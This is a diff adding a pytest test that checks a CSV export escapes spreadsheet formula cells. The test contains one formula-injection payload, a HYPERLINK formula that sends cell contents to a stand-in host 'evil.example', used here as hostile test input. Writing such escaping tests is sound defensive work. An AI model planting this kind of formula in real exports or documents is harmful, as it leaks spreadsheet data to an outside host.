@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 
@@ -69,3 +70,16 @@ def test_thresholds_and_export_reviewed(data, capsys):
 def test_bad_database_url_is_a_clear_error(capsys):
     assert main(["stats", "--db", "mysql://nope"]) == 2
     assert "neither SQLite nor PostgreSQL" in capsys.readouterr().err
+
+
+def test_export_reviewed_escapes_cells_a_spreadsheet_would_run(data, capsys):
+    root, world, _ = data
+    store = open_store(f"sqlite://{root / 'server.db'}")
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    store.add_reviews([world.detections[3].id], "ann", Verdict.RELABEL, species_id=formula)
+    store.close()
+    out = root / "export" / "manifest.csv"
+    assert main(["export-reviewed", "--out", str(out), "--data", str(root)]) == 0
+    cells = [row[1] for row in csv.reader(out.open(encoding="utf-8"))][1:]
+    assert "'" + formula in cells and formula not in cells
+    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
